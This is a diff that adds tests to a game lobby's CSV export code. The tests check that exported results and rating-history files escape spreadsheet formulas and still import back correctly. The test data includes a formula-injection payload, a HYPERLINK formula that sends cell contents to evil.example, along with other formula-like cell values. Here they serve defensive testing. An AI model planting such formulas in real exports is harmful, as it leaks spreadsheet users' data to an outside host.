@@ -17,6 +17,7 @@ from testkit.results import HEADER
 from testkit.server_loop import LobbyServer
 
 from server.api.results_file import parse_results
+from server.api.spreadsheet import escape, unescape
 
 pytestmark = pytest.mark.asyncio(loop_scope="session")
 
@@ -143,6 +144,90 @@ async def test_closed_events_browsed_and_exported(
         await page.locator("#profile .exports").get_by_role("button", name="JSON").click()
     assert json.loads(await saved(await info.value, tmp_path)) == {
         "player": "alice", "entries": history["entries"]}
+
+
+FORMULA_NAME = '=HYPERLINK("https://evil.example/?"&A1,"Open")'
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+
+
+def quoted(text: str) -> str:
+    return '"' + text.replace('"', '""') + '"'
+
+
+def inert(table: list[list[str]]) -> None:
+    """No cell a spreadsheet would run (OWASP's list, after spaces), numbers apart."""
+    for row in table:
+        for c in row:
+            if c.lstrip(" ").startswith(FORMULA_START):
+                float(c)  # a negative number is a number, not a formula
+
+
+async def test_exported_csv_files_escape_formulas_and_read_back(
+        site: LobbyServer, page: Page, tmp_path: Path) -> None:
+    admin = await site.admin()
+    event = await admin.call("event create", name=FORMULA_NAME, ladder="scrabble",
+                             date="2026-03-07")
+    rows = [f"{quoted(FORMULA_NAME)},2026-03-07,-A1-B1x,bob,412,389,,",
+            f"{quoted(FORMULA_NAME)},2026-03-07,-2,-A1-B1x,350,371,,",
+            f"{quoted(FORMULA_NAME)},2026-03-07,bob,-2,398,402,,no:=1+1"]
+    await admin.call("event import", event=event["id"], csv=HEADER + "\n" + "\n".join(rows))
+    await admin.call("event close", event=event["id"])
+    shown = await admin.call("event show", event=event["id"])
+
+    await page.select_option("#browse-event", str(event["id"]))
+    async with page.expect_download() as info:
+        await page.locator("#browse-body").get_by_role("button", name="Results file (CSV)").click()
+    text = await saved(await info.value, tmp_path)
+    table = list(csv_module.reader(io.StringIO(text)))
+    inert(table)
+    assert [r[:4] for r in table[1:]] == [["'" + FORMULA_NAME, "2026-03-07", "'-A1-B1x", "bob"],
+                                          ["'" + FORMULA_NAME, "2026-03-07", "'-2", "'-A1-B1x"],
+                                          ["'" + FORMULA_NAME, "2026-03-07", "bob", "'-2"]]
+    assert table[3][7] == "no:=1+1"  # starts with "n": text as it is
+    # read back as written, by the parser `event import` and `matchlobby rate` share ...
+    assert [(r.event, r.game.side_a, r.game.side_b) for r in parse_results(text)] == [
+        (FORMULA_NAME, ("-A1-B1x",), ("bob",)), (FORMULA_NAME, ("-2",), ("-A1-B1x",)),
+        (FORMULA_NAME, ("bob",), ("-2",))]
+    # ... and by the lobby: the file imported into another event of that name
+    again = await admin.call("event create", name=FORMULA_NAME, ladder="scrabble",
+                             date="2026-03-07")
+    assert (await admin.call("event import", event=again["id"], csv=text))["imported"] == 3
+    copy = await admin.call("event show", event=again["id"])
+    assert [(g["side_a"], g["side_b"], g["score_a"], g["score_b"], g["unrated"])
+            for g in copy["games"]] == [(g["side_a"], g["side_b"], g["score_a"], g["score_b"],
+                                         g["unrated"]) for g in shown["games"]]
+
+    # the rating history of a player whose name starts like a formula (with a loss in it)
+    night = await admin.call("event create", name="Night", ladder="backgammon")
+    await admin.call("event result", event=night["id"], side_a="bob", side_b="-A1-B1x",
+                     score_a=1, score_b=0)
+    await page.goto(site.http_url + "#player=-A1-B1x")
+    await page.wait_for_selector("figure.history")
+    history = (await admin.call("history", name="-A1-B1x"))["entries"]
+    async with page.expect_download() as info:
+        await page.locator("#profile .exports").get_by_role("button", name="CSV").click()
+    table = list(csv_module.reader(io.StringIO(await saved(await info.value, tmp_path))))
+    inert(table)
+    assert len(table) == 1 + len(history) and any((e["change"] or 0) < 0 for e in history)
+    for cells, e in zip(table[1:], history, strict=True):
+        assert cells[:3] == ["'-A1-B1x", e["ladder"], e["at"]]
+        assert [None if c == "" else float(c) for c in cells[3:6]] == [
+            e["before"], e["after"], e["change"]]
+
+
+async def test_the_page_escapes_cells_as_the_results_reader_expects(page: Page) -> None:
+    """The page's CSV cell (clients/web/js/exports.js) and server.api.spreadsheet: one rule."""
+    texts = ["=1+1", "-A1-B1x", "'=1", "''=1", "' -x", "'a", "''", "'", " =1", "\t=1", "@", "-",
+             "plain", "", "=HYPERLINK(\"https://x.example/\",\"x\")", "a,b", "-2"]
+    cells = await page.evaluate("""async (texts) => {
+        const { cell } = await import("./js/exports.js");
+        return [texts.map((t) => cell(t)), [cell(-2.5), cell(0), cell(null)]];
+    }""", texts)
+    for text, written in zip(texts, cells[0], strict=True):
+        [read] = next(csv_module.reader([written])) or [""]
+        assert read == escape(text), (text, written)
+        assert unescape(read) == text
+    assert cells[1] == ["-2.5", "0", ""]  # numbers stay numbers
 
 
 async def test_live_play_shows_win_loss_per_ladder_on_the_profile(
